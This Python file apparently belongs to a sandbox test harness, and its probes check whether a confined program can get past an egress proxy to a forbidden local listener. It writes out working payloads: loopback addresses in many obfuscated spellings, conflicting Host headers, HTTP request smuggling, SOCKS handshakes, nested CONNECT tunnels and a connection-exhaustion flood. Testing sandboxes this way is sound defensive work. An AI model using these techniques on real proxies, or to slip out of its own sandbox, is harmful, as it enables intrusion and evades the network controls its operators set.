"""Ways around the proxy, of a program that was let out to one server and means another. Without a sandbox there is no
proxy, and nothing to go around."""

import os
import socket
import urllib.request

from attempts.core import Refused, attempt, each, hold, say


def ask(c, words, more=b""):
    """Says it to the proxy, and gives back the first words of its answer."""
    place = os.environ.get("http_proxy", "")
    if not place:
        raise Refused("nobody let it out")
    host, port = place.rsplit("/", 1)[1].split(":")
    with socket.create_connection((host, int(port)), 2) as line:
        line.sendall(words.replace("\n", "\r\n").encode() + more)
        answer = line.recv(12)
        if answer.endswith(b"200") and words.startswith("CONNECT"):
            line.sendall(c.marker.encode())
        return answer


def spellings(c):
    """The judge's listener in every way that it can be written."""
    hosts = ["127.0.0.1", "localhost", "LOCALHOST.", "0.0.0.0", "0", "127.1", "127.0.0.1.", "2130706433", "0x7f000001",
             "0177.0.0.1", "127.0.0.2", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[::127.0.0.1]", "[64:ff9b::7f00:1]",
             "ip6-localhost", "localhost.localdomain", "127.0.0.1.nip.io", socket.gethostname(), "１２７.0.0.1",
             "127.0.0.1%00.example.org", "127.0.0.1#", f"{c.granted}@127.0.0.1", f"{c.granted}#@127.0.0.1"]
    return [f"{host}:{c.tcp4}" for host in hosts] + [f"[::1]:{c.tcp6}", f"localhost:{c.tcp6}"]


@attempt("proxy", control=False, quick=True)
def proxy_tunnel(c):
    each(spellings(c), lambda host: ask(c, f"CONNECT {host} HTTP/1.1\n\n"))


@attempt("proxy", control=False)
def proxy_request(c):
    each(spellings(c), lambda host: ask(c, f"GET http://{host}/{c.marker} HTTP/1.1\n\n"))


@attempt("proxy", control=False, needs=("own-address",))
def proxy_to_own_address(c):
    ask(c, f"CONNECT {c.own_address}:{c.tcp_own} HTTP/1.1\n\n")


@attempt("proxy", control=False, quick=True)
def proxy_redirect(c):
    """The server that it may reach sends it on to one that it may not."""
    if not os.environ.get("http_proxy"):
        raise Refused("nobody let it out")
    urllib.request.urlopen(f"http://{c.granted}/", timeout=3)


@attempt("proxy", control=False, quick=True)
def proxy_two_hosts(c):
    """One server in the address and another in a header, in ways that two programs may read differently."""
    other = f"127.0.0.1:{c.tcp4}"
    first = f"GET http://{c.granted}/{c.marker} HTTP/1.1\n"
    each(
        [
            f"{first}Host: {other}\n\n",
            f"{first}Host: {c.granted}\nHost: {other}\n\n",
            f"{first}Host : {other}\n\n",
            f"{first}X: y\n Host: {other}\n\n",
            f"GET / HTTP/1.1\nHost: {other}\n\n",
            f"GET //{other}/ HTTP/1.1\n\n",
            f"GET http://{other}/ HTTP/0.9\n\n",
            f"GET http:/{other}/ HTTP/1.1\n\n",
            f"CONNECT {c.granted} HTTP/1.1\nHost: {other}\n\n",
            f"CONNECT {c.granted},{other} HTTP/1.1\n\n",
            f"CONNECT {other} HTTP/1.1\nHost: {c.granted}\n\n",
        ],
        lambda words: ask(c, words),
    )


@attempt("proxy", control=False)
def proxy_smuggle(c):
    """A second request behind the first."""
    second = f"GET http://127.0.0.1:{c.tcp4}/{c.marker} HTTP/1.1\r\n\r\n".encode()
    first = f"POST http://{c.granted}/ HTTP/1.1\n"
    each(
        [
            first + "\n",
            first + "Content-Length: 0\n\n",
            first + "Content-Length: 0\nContent-Length: 5\n\n",
            first + "Content-Length: 3\nTransfer-Encoding: chunked\n\n",
            first + "Transfer-Encoding: chunked\n\n0\n\n",
            first + "Connection: keep-alive, Content-Length\nContent-Length: 0\n\n",
            first + "Upgrade: h2c\nConnection: Upgrade\n\n",
        ],
        lambda words: ask(c, words, second),
    )


@attempt("proxy", control=False)
def proxy_other_tongues(c):
    """SOCKS, and a tunnel within the one that is permitted."""
    address = socket.inet_aton("127.0.0.1")
    port = c.tcp4.to_bytes(2, "big")
    each([b"\x04\x01" + port + address + b"\0", b"\x05\x01\x00\x05\x01\x00\x01" + address + port],
         lambda words: say(repr(ask(c, "", words))))
    ask(c, f"CONNECT {c.granted} HTTP/1.1\n\n", f"CONNECT 127.0.0.1:{c.tcp4} HTTP/1.1\r\n\r\n{c.marker}".encode())


@attempt("proxy", control=False, alone=True)
def proxy_crowd(c):
    """As many callers as there can be, each of whom never ends its sentence; and then one who means it."""
    if not os.environ.get("http_proxy"):
        raise Refused("nobody let it out")
    place = os.environ["http_proxy"].rsplit("/", 1)[1].split(":")
    callers = []

    def call(_):
        line = socket.create_connection((place[0], int(place[1])), 0.05)
        line.sendall(b"GET http://")
        callers.append(line)

    each(range(180), call)
    hold()
    ask(c, f"CONNECT 127.0.0.1:{c.tcp4} HTTP/1.1\n\n")
